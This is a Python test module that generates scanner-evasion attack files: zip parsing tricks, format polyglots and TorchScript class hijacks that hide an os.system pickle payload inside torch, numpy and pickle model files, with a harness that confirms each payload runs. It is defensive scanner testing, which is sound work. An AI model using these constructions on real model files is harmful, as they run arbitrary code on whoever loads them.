"""Files built the way an attacker who reads the scanner's source would build them (issue 10).

Each one runs a payload (it creates a canary file) under a plain loader: pickle.load,
torch.load(weights_only=False), torch.jit.load or numpy.load(allow_pickle=True). `run_live`
proves that in a subprocess; the scanner must never call one of them safe. Nothing here is
committed as a binary: every file is generated at test time.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import subprocess
import sys
import textwrap
import zlib
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Attack:
    name: str  # also the file name
    data: bytes
    live: str  # how the payload is proven to run: see run_live
    issue_class: int  # the class in issue 10 it belongs to
    description: str
    printed: str | None = None  # for a payload that cannot write files: what it prints when it runs


def payload(canary: Path) -> bytes:
    """os.system('touch CANARY') as a protocol-0 pickle (no PROTO opcode)."""
    return b"cos\nsystem\n(S'touch " + str(canary).encode() + b"'\ntR."


# ---- a small zip writer that does what zipfile refuses to -------------------------------------
@dataclass
class _Entry:
    name: bytes
    crc: int
    compressed: int
    size: int
    method: int
    offset: int = 0


def _deflate(body: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(body) + compressor.flush()


def zip_members(members: list[tuple[str, bytes, int]], start: int = 0) -> tuple[bytes, list[_Entry]]:
    """Local headers and data for (name, body, method) members, laid out from byte `start`."""
    out, entries = bytearray(), []
    for name, body, method in members:
        data = _deflate(body) if method == 8 else body
        entry = _Entry(name.encode(), zlib.crc32(body), len(data), len(body), method, start + len(out))
        out += (
            struct.pack(
                "<4s5H3I2H",
                b"PK\x03\x04",
                20,
                0,
                method,
                0,
                0,
                entry.crc,
                entry.compressed,
                entry.size,
                len(entry.name),
                0,
            )
            + entry.name
            + data
        )
        entries.append(entry)
    return bytes(out), entries


def zip_directory(entries: list[_Entry]) -> bytes:
    return b"".join(
        struct.pack(
            "<4s6H3I5H2I",
            b"PK\x01\x02",
            20,
            20,
            0,
            entry.method,
            0,
            0,
            entry.crc,
            entry.compressed,
            entry.size,
            len(entry.name),
            0,
            0,
            0,
            0,
            0,
            entry.offset,
        )
        + entry.name
        for entry in entries
    )


def zip_end(entries: int, size: int, offset: int) -> bytes:
    return struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries, entries, size, offset, 0)


def zip64_end(entries: int, size: int, offset: int, record_at: int) -> bytes:
    record = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, size, offset)
    return record + struct.pack("<4sIQI", b"PK\x06\x07", 0, record_at, 1)


def _torch_members(pickled: bytes, method: int = 0) -> list[tuple[str, bytes, int]]:
    """The records torch.load needs: data.pkl and version."""
    return [("archive/data.pkl", pickled, method), ("archive/version", b"3\n", 0)]


# ---- class 1: zips read differently from zipfile and torch's reader ---------------------------
def zip64_record_with_a_second_directory(canary: Path, hidden: bytes | None = None) -> bytes:
    """Classic end record -> a harmless directory; ZIP64 record -> a second one whose data.pkl runs
    the payload (or is `hidden`). zipfile and miniz prefer the ZIP64 record even when the classic
    one is not maxed out."""
    benign = pickle.dumps({"w": 1}, 2)
    body, entries = zip_members(_torch_members(benign) + [("archive/data.pkl", hidden or payload(canary), 0)])
    harmless, evil = entries[:2], [entries[2], entries[1]]
    first, second = zip_directory(harmless), zip_directory(evil)
    second_at = len(body) + len(first)
    record_at = second_at + len(second)
    return (
        body
        + first
        + second
        + zip64_end(len(evil), len(second), second_at, record_at)
        + zip_end(len(harmless), len(first), len(body))
    )


def npz_whose_end_record_undercounts(canary: Path) -> bytes:
    """An .npz whose end record counts one entry: miniz (and a count-trusting scanner) see a float
    array, zipfile reads the directory by its size and lets the second `x.npy`, an object array
    whose pickle is the payload, win."""
    import numpy

    harmless = io.BytesIO()
    numpy.save(harmless, numpy.zeros(2))
    evil = npy_header("'|O'") + payload(canary)
    body, entries = zip_members([("x.npy", harmless.getvalue(), 0), ("x.npy", evil, 0)])
    directory = zip_directory(entries)
    return body + directory + zip_end(1, len(directory), len(body))


def duplicate_data_pkl(canary: Path) -> bytes:
    """Two directory entries for one data.pkl member, both pointing at the same local header: the
    first says "stored, 3 bytes" (those bytes read `K.` + `.`: the int 46), the last "deflated":
    the same bytes inflate to a payload. torch's reader and zipfile both take the last entry.

    Fixed-Huffman deflate of a pickle starting `csubprocess` begins with the bytes K ? . (the
    bits of `c`, `s` and `u` fall that way), which is what makes one byte string both.
    """
    evil = b"csubprocess\ncall\n((S'touch'\nS'" + str(canary).encode() + b"'\nltR."
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15, 9, zlib.Z_FIXED)
    deflated = compressor.compress(evil) + compressor.flush()
    assert deflated[0] == ord("K") and deflated[2] == ord(".")
    name = b"archive/data.pkl"
    local = (
        struct.pack(
            "<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, zlib.crc32(evil), len(deflated), len(evil), len(name), 0
        )
        + name
        + deflated
    )
    version, [version_entry] = zip_members([("archive/version", b"3\n", 0)], start=len(local))
    entries = [
        _Entry(name, zlib.crc32(deflated[:3]), 3, 3, 0),
        version_entry,
        _Entry(name, zlib.crc32(evil), len(deflated), len(evil), 8),
    ]
    directory = zip_directory(entries)
    body = local + version
    return body + directory + zip_end(len(entries), len(directory), len(body))


def junk_offset_onto_a_harmless_directory(canary: Path, hidden: bytes | None = None) -> bytes:
    """The end record's directory offset points at the payload's (or `hidden`'s) directory, which
    torch's reader reads; its size is chosen so that zipfile's "data before the archive" correction
    lands on a harmless directory placed right before the end record."""
    body, entries = zip_members(_torch_members(hidden or payload(canary)) + _torch_members(pickle.dumps({"w": 1}, 2)))
    evil = zip_directory(entries[:2])
    shift = len(evil)  # zipfile: end - size - offset = (start of the harmless directory) - (start of the evil one)
    for entry in entries[2:]:
        entry.offset -= shift  # zipfile adds the shift back to every local header offset
    harmless = zip_directory(entries[2:])
    return body + evil + harmless + zip_end(2, len(harmless), len(body))


# ---- class 2: sniffed instead of parsed --------------------------------------------------------
_LONG_LINE = b"S'" + b"x" * ((1 << 20) + 64) + b"'\n0"  # a STRING over 1 MiB, then POP


def long_line_without_proto(canary: Path) -> bytes:
    """No PROTO opcode, and a text line longer than 1 MiB before the payload."""
    return _LONG_LINE + payload(canary)


def long_line_behind_a_safetensors_header(canary: Path) -> bytes:
    """The first 8 bytes read as a little-endian header length (71) followed by `{`, as safetensors
    starts; to pickle.load they are a BINFLOAT (opcode G and 8 bytes, the `{` among them)."""
    return b"G" + b"\x00" * 7 + b"{" + b"0" + _LONG_LINE + payload(canary)


def long_line_behind_gguf_magic(canary: Path) -> bytes:
    """GGUF magic and version: to pickle.load, a BINFLOAT (G + "GUF" + 5 bytes) and a POP."""
    return b"GGUF\x03\x00\x00\x00\x00" + b"0" + _LONG_LINE + payload(canary)


def data_pkl_that_is_also_a_tar(canary: Path) -> bytes:
    """data.pkl that is a valid tar: its first 512 bytes are a tar header whose member name starts a
    STRING line, which runs through the header and the member's 1 MiB of content to a quote and a
    newline; after it, the payload. torch.load unpickles data.pkl whatever it looks like."""
    content = b"x" * (1 << 20) + b"'\n0" + payload(canary)
    header = bytearray(512)
    header[:100] = b"S'" + b"x" * 98
    header[100:108] = b"0000644\0"
    header[108:116] = header[116:124] = b"0000000\0"
    header[124:136] = f"{len(content):011o}\0".encode()
    header[136:148] = b"00000000000\0"
    header[156:157] = b"0"
    header[257:265] = b"ustar\x0000"
    header[148:156] = b" " * 8
    header[148:156] = f"{sum(header):06o}\0 ".encode()
    padding = -len(content) % 512
    data_pkl = bytes(header) + content + b"\0" * (padding + 1024)
    body, entries = zip_members(_torch_members(data_pkl))
    directory = zip_directory(entries)
    return body + directory + zip_end(len(entries), len(directory), len(body))


# ---- class 3: headers parsed differently from the library that reads them ----------------------
def npy_header(descr: str) -> bytes:
    text = "{'descr': " + descr + ", 'fortran_order': False, 'shape': (1,), }"
    text += " " * (63 - (10 + len(text)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode()


def npy_with_object_spelled_out(canary: Path) -> bytes:
    """`'descr': 'object'`: numpy reads it as the object dtype and unpickles the body."""
    return npy_header("'object'") + payload(canary)


def legacy_torch_with_a_hex_magic_number(canary: Path) -> bytes:
    """A legacy torch file whose magic number is the INT text "0x1950A86A20F9469CFC6C": CPython's
    unpickler reads INT in base 0, so torch.load accepts it and unpickles the next pickles; the
    third (sys info) runs the payload behind a line over 1 MiB."""
    return b"I0x1950A86A20F9469CFC6C\n." + pickle.dumps(1001, 2) + _LONG_LINE + payload(canary)


def legacy_torch_importing_a_module_that_runs_on_import(canary: Path) -> bytes:
    """A legacy torch file (magic number in hex) whose sys-info pickle imports `this` and then
    breaks: nothing is called, but importing the module runs it (it prints the Zen of Python)."""
    return b"I0x1950A86A20F9469CFC6C\n." + pickle.dumps(1001, 2) + b"cthis\ns\n\xff"


def pre_1_0_torch_tar(storages_tail: bytes | None = None, pickled: bytes | None = None) -> bytes:
    """torch's pre-1.0 tar format as torch.load reads it (torch/serialization.py legacy_load): one
    2-float storage (key 0), one tensor over it (key 1) and, in `pickle`, {"w": that tensor}.
    `storages_tail` replaces the storage-views pickle after the raw floats; `pickled` the object."""
    import torch

    from tests.files.corpus import _tar_of

    storages = (
        pickle.dumps(1, 2)
        + pickle.dumps((0, "cpu", torch.FloatStorage), 2)
        + struct.pack("<q", 2)
        + struct.pack("<2f", 1.0, 2.0)
        + (pickle.dumps([], 2) if storages_tail is None else storages_tail)
    )
    tensors = (
        pickle.dumps(1, 2)
        + pickle.dumps((1, 0, torch.FloatTensor), 2)
        + struct.pack("<i", 1)
        + b"\0" * 4
        + struct.pack("<q", 2)
        + struct.pack("<q", 1)
        + struct.pack("<q", 0)
    )
    if pickled is None:
        marker, buffer = object(), io.BytesIO()
        pickler = pickle.Pickler(buffer, 2)
        pickler.persistent_id = lambda obj: "1" if obj is marker else None
        pickler.dump({"w": marker})
        pickled = buffer.getvalue()
    return _tar_of({"storages": storages, "tensors": tensors, "pickle": pickled})


def torch_tar_with_a_pickle_after_raw_bytes(canary: Path) -> bytes:
    """The storage-views pickle, after the first storage's raw bytes, is the payload."""
    return pre_1_0_torch_tar(storages_tail=payload(canary))


# ---- class 4: TorchScript ---------------------------------------------------------------------
def torchscript_with_only_allowlisted_names(canary: Path) -> bytes:
    """A TorchScript archive whose data.pkl names no global off the allowlist: its root object's
    class, `collections.Counter`, is the one torch.jit.load compiles from the archive's own
    code/collections.py, and that class's __setstate__ runs on load (it prints the canary's path;
    TorchScript cannot touch files, so run_live checks the output for this one)."""
    import torch

    class Counter(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.marker = str(canary)

        @torch.jit.export
        def __getstate__(self) -> tuple[str, bool]:
            return (self.marker, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool]) -> None:
            print(state[0])
            self.marker = state[0]
            self.training = state[1]

        def forward(self) -> int:
            return 1

    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(Counter()), buffer)
    return _renamed_torchscript_class(buffer.getvalue(), "collections", "Counter")


def _renamed_torchscript_class(archive: bytes, module: str, name: str) -> bytes:
    """Moves the scripted root class to `module.name`: its source to code/<module>.py and every
    reference in data.pkl (a GLOBAL) to the new qualified name."""
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(archive))
    records = {info.filename: source.read(info) for info in source.infolist()}
    prefix = next(iter(records)).split("/", 1)[0]
    data_pkl = records[f"{prefix}/data.pkl"]
    start = data_pkl.index(b"c__torch__")
    end = data_pkl.index(b"\n", data_pkl.index(b"\n", start) + 1) + 1
    old_module, old_name = data_pkl[start + 1 : end - 1].decode().split("\n")
    code_path = f"{prefix}/code/{old_module.replace('.', '/')}.py"
    code = records.pop(code_path).replace(f"class {old_name}(".encode(), f"class {name}(".encode())
    code = code.replace(f"{old_module}.{old_name}".encode(), f"{module}.{name}".encode())
    records.pop(f"{code_path}.debug_pkl", None)  # source ranges for the old name
    records[f"{prefix}/code/{module.replace('.', '/')}.py"] = code
    records[f"{prefix}/data.pkl"] = data_pkl[:start] + f"c{module}\n{name}\n".encode() + data_pkl[end:]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for record, body in records.items():
            target.writestr(record, body)
    return out.getvalue()


def all_attacks(canary: Path) -> list[Attack]:
    """Every attack file of issue 10, classes 1-4 (class 5, folders, and 6, false alarms, are
    tested where they are built: test_scan_attacks.py)."""
    return [
        Attack(
            "zip64_second_directory.pt",
            zip64_record_with_a_second_directory(canary),
            "torch",
            1,
            "ZIP64 end record pointing at a second central directory",
        ),
        Attack(
            "undercounted.npz",
            npz_whose_end_record_undercounts(canary),
            "numpy",
            1,
            "end record counting fewer entries than the directory holds",
        ),
        Attack(
            "duplicate_data_pkl.pt",
            duplicate_data_pkl(canary),
            "torch",
            1,
            "two entries for data.pkl, stored harmless first, deflated payload last",
        ),
        Attack(
            "junk_offset.pt",
            junk_offset_onto_a_harmless_directory(canary),
            "torch",
            1,
            "data-before-the-archive correction landing on a harmless directory",
        ),
        Attack(
            "long_line.pkl",
            long_line_without_proto(canary),
            "pickle",
            2,
            "no PROTO, a line over 1 MiB before the payload",
        ),
        Attack(
            "long_line.safetensors",
            long_line_behind_a_safetensors_header(canary),
            "pickle",
            2,
            "a safetensors-looking header, then the long line and the payload",
        ),
        Attack(
            "long_line.gguf",
            long_line_behind_gguf_magic(canary),
            "pickle",
            2,
            "GGUF magic, then the long line and the payload",
        ),
        Attack("tar_data_pkl.pt", data_pkl_that_is_also_a_tar(canary), "torch", 2, "data.pkl that is also a valid tar"),
        Attack(
            "object_spelled_out.npy",
            npy_with_object_spelled_out(canary),
            "numpy",
            3,
            "npy header with 'descr': 'object'",
        ),
        Attack(
            "hex_magic.pt",
            legacy_torch_with_a_hex_magic_number(canary),
            "torch",
            3,
            "legacy torch magic number written in hex",
        ),
        Attack(
            "import_runs.pt",
            legacy_torch_importing_a_module_that_runs_on_import(canary),
            "torch",
            3,
            "legacy torch (hex magic): a pickle that imports a module with side effects, then breaks",
            printed="Beautiful is better than ugly.",
        ),
        Attack(
            "pre_1_0.tar",
            torch_tar_with_a_pickle_after_raw_bytes(canary),
            "torch",
            3,
            "pre-1.0 torch tar: payload pickle after the raw storage bytes",
        ),
        Attack(
            "allowlisted_torchscript.pt",
            torchscript_with_only_allowlisted_names(canary),
            "jit",
            4,
            "TorchScript archive naming only collections.Counter, defined in its own code/",
            printed=str(canary),
        ),
    ]


# ---- proving the payloads run ---------------------------------------------------------------
_LIVE_SCRIPT = textwrap.dedent(
    """
    import gzip, bz2, lzma, io, json, os, pickle, sys, time, zipfile, zlib
    from pathlib import Path

    def every_pickle(handle):
        for _ in range(5):  # a program that unpickles every concatenated stream (legacy torch reads 5)
            try:
                pickle.load(handle)
            except Exception:
                return

    def load(path, how):
        if how == "pickle":
            with open(path, "rb") as handle:
                every_pickle(handle)
        elif how in ("gzip", "bz2", "xz", "lzma"):
            with {"gzip": gzip, "bz2": bz2, "xz": lzma, "lzma": lzma}[how].open(path, "rb") as handle:
                every_pickle(handle)
        elif how == "zlib":  # joblib's .z files: one zlib stream, then unpickled
            every_pickle(io.BytesIO(zlib.decompress(Path(path).read_bytes())))
        elif how == "torch":
            import torch
            torch.load(path, weights_only=False)
        elif how == "jit":
            import torch
            torch.jit.load(path)
        elif how == "numpy":
            import numpy
            loaded = numpy.load(path, allow_pickle=True)
            if hasattr(loaded, "files"):
                [loaded[key] for key in loaded.files]
        elif how.startswith("member:"):  # a member extracted from an archive and unpickled
            pickle.loads(zipfile.ZipFile(path).read(how.split(":", 1)[1]))
        elif how == "nested-torch":  # zips inside zips extracted, then the innermost torch.load-ed
            import torch
            data = Path(path).read_bytes()
            while True:
                archive = zipfile.ZipFile(io.BytesIO(data))
                inner = [name for name in archive.namelist() if not name.endswith("/")]
                if len(inner) != 1:
                    break
                data = archive.read(inner[0])
            torch.load(io.BytesIO(data), weights_only=False)
        elif how == "class-mutation":  # BUILD on an allowlisted class: the class itself is changed
            import collections
            with open(path, "rb") as handle:
                every_pickle(handle)
            if "most_common" in vars(collections.Counter) and collections.Counter.most_common == 1:
                Path(sys.argv[2]).touch()

    results = {}
    for path, how in json.loads(sys.argv[1]):
        canary = Path(sys.argv[2])
        try:
            load(path, how)
        except Exception:
            pass  # most payloads break the load after they ran
        for _ in range(20):  # subprocess.Popen and webbrowser start programs that touch it a moment later
            if canary.exists():
                break
            time.sleep(0.05)
        results[path] = canary.exists()
        if canary.exists():
            canary.unlink()
        sys.stdout.flush()
    print("RESULTS " + json.dumps(results))
    """
)


def run_live(files: list[tuple[Path, str, str | None]], canary: Path, cwd: Path) -> dict[str, bool]:
    """Loads each (path, how, printed) with a plain loader in one fresh interpreter; True where the
    payload ran: it created `canary` (removed again before the next file), or, for a payload that
    cannot write files, the interpreter printed `printed` (each such marker is distinct).
    $BROWSER is `touch`, so webbrowser.open(canary) creates the canary too.
    """
    import os

    assert not canary.exists()
    env = {**os.environ, "BROWSER": "touch", "PYTHONWARNINGS": "ignore"}
    done = subprocess.run(
        [sys.executable, "-c", _LIVE_SCRIPT, json.dumps([[str(p), how] for p, how, _ in files]), str(canary)],
        capture_output=True,
        text=True,
        timeout=600,
        cwd=cwd,
        env=env,
    )
    lines = done.stdout.splitlines()
    results = json.loads(next(line for line in reversed(lines) if line.startswith("RESULTS "))[8:])
    for path, _, printed in files:
        if printed is not None:
            results[str(path)] = any(printed in line for line in lines if not line.startswith("RESULTS "))
    return results
